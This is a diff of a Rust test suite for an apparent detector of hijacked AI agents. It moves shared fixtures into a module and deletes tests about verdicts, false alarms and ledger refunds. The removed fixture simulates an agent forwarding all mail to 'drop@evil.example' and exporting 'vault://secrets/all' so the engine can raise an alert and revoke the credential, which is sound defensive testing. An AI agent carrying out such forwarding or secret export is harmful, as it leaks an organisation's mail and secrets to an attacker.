@@ -2,183 +2,24 @@
 
 #![expect(
     clippy::unwrap_used,
-    clippy::cast_possible_wrap,
     clippy::float_cmp,
     reason = "a story that cannot be told fails; small numbers; equal to the bit is what is claimed"
 )]
 
-use models::alert::{Alert, AlertKind};
-use models::assessment::{Assessment, Decision, Outcome};
-use models::config::{BrakeConfig, Budget, EngineConfig, Span};
-use models::decision::{Mode, Revocation, RevocationSubject, Verdict, Withheld};
+use models::alert::AlertKind;
+use models::assessment::{Decision, Outcome};
+use models::config::{BrakeConfig, Budget, EngineConfig};
+use models::decision::{Mode, RevocationSubject, Withheld};
 use models::dimension::Dimension;
-use models::engine::{Engine, Input, Output, Phase, RestoreError, Trust};
+use models::engine::{Engine, Input, Phase, RestoreError, Trust};
 use models::event::{Event, Timestamp, decode};
 use proptest::prelude::*;
 
-/// 2026-03-02, a Monday, in seconds.
-const START: i64 = 1_772_409_600;
-const AGENTS: usize = 12;
-const DAYS: i64 = 14;
+mod fleet;
 
-fn config() -> EngineConfig {
-    EngineConfig {
-        // Generous, so that some thousand sessions are history enough to promise it.
-        budget: Budget {
-            false_alerts_per_1000_identity_days: 50.0,
-            false_revocations_per_million_identity_days: 20_000.0,
-        },
-        mode: Mode::Enforce,
-        brake: BrakeConfig { identities: 2, share: 0.0, window: Span::seconds(600) },
-        ..EngineConfig::default()
-    }
-}
-
-fn engine(config: EngineConfig) -> Engine {
-    Engine::new(config.check().unwrap())
-}
-
-/// A small reproducible stream of numbers (Knuth's MMIX constants).
-struct Dice(u64);
-
-impl Dice {
-    fn below(&mut self, n: u64) -> u64 {
-        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
-        (self.0 >> 33) % n
-    }
-}
-
-struct Call<'a> {
-    agent: usize,
-    tenant: &'a str,
-    session: &'a str,
-    second: i64,
-    tool: &'a str,
-    action: &'a str,
-    target: &'a str,
-    bytes: u64,
-}
-
-impl Call<'_> {
-    fn event(&self) -> Event {
-        let Call { agent, tenant, session, second, tool, action, target, bytes } = self;
-        let time = Timestamp::from_seconds(START + second);
-        let expires = Timestamp::from_seconds(START + second + 3600);
-        let raw = format!(
-            r#"{{"id":"{session}-{second}-{tool}","time":"{time}","tenant":"{tenant}","identity":"spiffe://acme.example/bots/bot-{agent}",
-            "session":"{session}","task":"daily","tool":"{tool}","action":"{action}","target":"{target}","bytes_in":{bytes},"bytes_out":{},
-            "credential":{{"id":"tok-{session}","issuer":"https://idp.example","scopes":["crm.read"],"expires_at":"{expires}"}}}}"#,
-            bytes * 3
-        );
-        decode(raw.as_bytes()).unwrap().event
-    }
-}
-
-/// One ordinary session: look up two or three accounts, note something, mail a known colleague.
-fn session(tenant: &str, agent: usize, number: i64, dice: &mut Dice) -> Vec<Event> {
-    let name = format!("{tenant}-{agent}-{number}");
-    let start = number * 7200 + agent as i64 * 60;
-    let mut events = Vec::new();
-    let mut call = |tool: &str, action: &str, target: &str, bytes| {
-        let second = start + events.len() as i64 * 20;
-        events.push(Call { agent, tenant, session: &name, second, tool, action, target, bytes }.event());
-    };
-    for _ in 0..2 + dice.below(2) {
-        let target = format!("crm://accounts/{}", dice.below(400));
-        call("crm.lookup", "read", &target, 200 + dice.below(100));
-    }
-    call("notes.append", "write", &format!("notes://{agent}/today"), 300 + dice.below(200));
-    let target = format!("mailto:colleague{}@acme.example", dice.below(3));
-    call("mail.send", "execute", &target, 1000 + dice.below(500));
-    events
-}
-
-fn history(tenant: &str, agents: usize, days: i64) -> Vec<Event> {
-    let mut dice = Dice(7);
-    let mut events: Vec<Event> = (0..days * 12)
-        .flat_map(|number| (0..agents).map(move |agent| (number, agent)))
-        .flat_map(|(number, agent)| session(tenant, agent, number, &mut dice))
-        .collect();
-    events.sort_by(|a, b| a.time.cmp(&b.time).then(a.id.cmp(&b.id)));
-    events
-}
-
-/// What a hijacked agent does: reads on, then sends a lot to an address nobody knows.
-fn hijack(agent: usize, number: i64) -> Vec<Event> {
-    let name = format!("hijack-{agent}-{number}");
-    let mut dice = Dice(99);
-    let mut events = session("default", agent, number, &mut dice);
-    for event in &mut events {
-        event.session = Some(name.as_str().into());
-        event.id = format!("{name}-{}", event.id).into();
-        if let Some(credential) = &mut event.credential {
-            credential.id = format!("tok-{name}").into();
-        }
-    }
-    for (i, (tool, action, target)) in [
-        ("mail.forward_all", "execute", "mailto:drop@evil.example"),
-        ("mail.send", "execute", "mailto:drop@evil.example"),
-        ("vault.export", "admin", "vault://secrets/all"),
-    ]
-    .into_iter()
-    .enumerate()
-    {
-        let second = number * 7200 + agent as i64 * 60 + 200 + i as i64 * 10;
-        events.push(
-            Call { agent, tenant: "default", session: &name, second, tool, action, target, bytes: 5_000_000 }.event(),
-        );
-    }
-    events
-}
-
-#[derive(Default, Clone, PartialEq, Debug)]
-struct Seen {
-    assessed: Vec<Assessment>,
-    alerts: Vec<Alert>,
-    revocations: Vec<Revocation>,
-}
-
-impl Seen {
-    fn take(&mut self, out: &mut Vec<Output>) {
-        for output in out.drain(..) {
-            match output {
-                Output::Assessed(assessment) => self.assessed.push(assessment),
-                Output::Alert(alert) => self.alerts.push(*alert),
-                Output::Revocation(revocation) => self.revocations.push(*revocation),
-            }
-        }
-    }
-
-    fn last(&self) -> &Assessment {
-        self.assessed.last().unwrap()
-    }
-}
-
-fn feed(engine: &mut Engine, events: &[Event], phase: Phase) -> Seen {
-    feed_from(engine, events, phase, Trust::Revoke, None)
-}
-
-fn feed_from(engine: &mut Engine, events: &[Event], phase: Phase, trust: Trust, arrival: Option<Timestamp>) -> Seen {
-    let (mut seen, mut out) = (Seen::default(), Vec::new());
-    for event in events {
-        engine.handle(Input::Event { event, trust, arrival, phase, partition: 0 }, &mut out);
-        let assessed = |o: &Output| matches!(o, Output::Assessed(_));
-        assert!(out.first().is_some_and(assessed) && !out.iter().skip(1).any(assessed), "one assessment, first");
-        seen.take(&mut out);
-    }
-    seen
-}
-
-/// An engine that has learned a fortnight.
-fn learned(config: EngineConfig) -> Engine {
-    let mut engine = engine(config);
-    feed(&mut engine, &history("default", AGENTS, DAYS), Phase::Warmup);
-    engine.publish(&mut Vec::new());
-    engine
-}
-
-/// The first session number after the history.
-const NEXT: i64 = DAYS * 12;
+use fleet::{
+    AGENTS, Call, Dice, NEXT, START, Seen, config, engine, feed, feed_from, hijack, history, learned, session,
+};
 
 #[test]
 fn a_hijack_is_alerted_explained_and_its_credential_revoked() {
@@ -195,6 +36,11 @@ fn a_hijack_is_alerted_explained_and_its_credential_revoked() {
     assert!(alert.events.iter().any(|e| &*e.tool == "mail.forward_all"));
     // One alert, updated; its id, score and versions never change.
     assert!(seen.alerts.iter().all(|a| a.id == alert.id && a.score == alert.score && a.p == alert.p));
+    // The nearest normal session is one of its own, and what it lacks is what the hijack added.
+    let nearest = alert.nearest_session.as_ref().unwrap();
+    assert!(nearest.session.starts_with("default-3-"), "{nearest:?}");
+    assert_eq!((nearest.shared_tools, nearest.tools), (3, 3));
+    assert_eq!(nearest.added.len(), 2, "{nearest:?}");
     let [revocation] = seen.revocations.as_slice() else { panic!("{:?}", seen.revocations) };
     assert_eq!(revocation.alert, alert.id);
     assert!(matches!(&revocation.subject, RevocationSubject::Credential { id, .. } if id.starts_with("tok-hijack-3")));
@@ -319,24 +165,6 @@ fn a_revoked_credential_that_is_used_again_is_an_alert_of_its_own() {
     let seen = feed(&mut engine, &[again], Phase::Live);
     let used: Vec<_> = seen.alerts.iter().filter(|a| a.kind == AlertKind::RevokedCredentialUsed).collect();
     assert_eq!(used.len(), 1);
-}
-
-#[test]
-fn what_is_suspicious_is_learned_only_after_a_verdict() {
-    for (verdict, expect_learned) in [(Verdict::True, false), (Verdict::False, true), (Verdict::BenignExpected, true)] {
-        let mut engine = learned(EngineConfig { mode: Mode::Warn, ..config() });
-        let alert = feed(&mut engine, &hijack(3, NEXT), Phase::Live).alerts.last().unwrap().id.clone();
-        let tools = |engine: &Engine| {
-            let view = engine.identity("default", "spiffe://acme.example/bots/bot-3").unwrap();
-            view.tools.iter().any(|t| &*t.name == "vault.export")
-        };
-        // The session is over, and it still waits.
-        engine.publish(&mut Vec::new());
-        assert!(!tools(&engine));
-        let identity = "spiffe://acme.example/bots/bot-3";
-        engine.handle(Input::Verdict { alert: &alert, tenant: "default", identity, verdict }, &mut Vec::new());
-        assert_eq!(tools(&engine), expect_learned, "{verdict:?}");
-    }
 }
 
 #[test]
@@ -468,37 +296,6 @@ fn a_partition_that_leads_does_not_end_the_sessions_of_one_that_lags() {
     for bot in 0..4 {
         let seen = engine.identity("default", &format!("spiffe://acme.example/bots/bot-{bot}")).unwrap();
         assert_eq!(seen.sessions, 4 * 12, "of bot {bot}");
-    }
-}
-
-#[test]
-fn a_false_alarm_that_goes_on_is_not_alarmed_again_at_once() {
-    let mut engine = learned(EngineConfig { mode: Mode::Warn, ..config() });
-    let events = hijack(3, NEXT);
-    let alert = feed(&mut engine, &events, Phase::Live).alerts.last().unwrap().id.clone();
-    let identity = "spiffe://acme.example/bots/bot-3";
-    engine.handle(
-        Input::Verdict { alert: &alert, tenant: "default", identity, verdict: Verdict::False },
-        &mut Vec::new(),
-    );
-    let mut next = events[0].clone();
-    next.id = "next".into();
-    next.time = events.last().unwrap().time.saturating_add(std::time::Duration::from_secs(20));
-    assert_eq!(feed(&mut engine, &[next], Phase::Live).last().decision, Decision::None);
-}
-
-#[test]
-fn only_a_revocation_that_was_right_is_refunded_and_once() {
-    let mut engine = learned(config());
-    let before = engine.view().ledger;
-    let seen = feed(&mut engine, &hijack(3, NEXT), Phase::Live);
-    assert!((engine.view().ledger - (before - 1.0)).abs() < 1e-9);
-    let alert = seen.alerts.last().unwrap();
-    for _ in 0..3 {
-        let input =
-            Input::Verdict { alert: &alert.id, tenant: "default", identity: &alert.identity, verdict: Verdict::True };
-        engine.handle(input, &mut Vec::new());
-        assert!((engine.view().ledger - before).abs() < 1e-9);
     }
 }
 
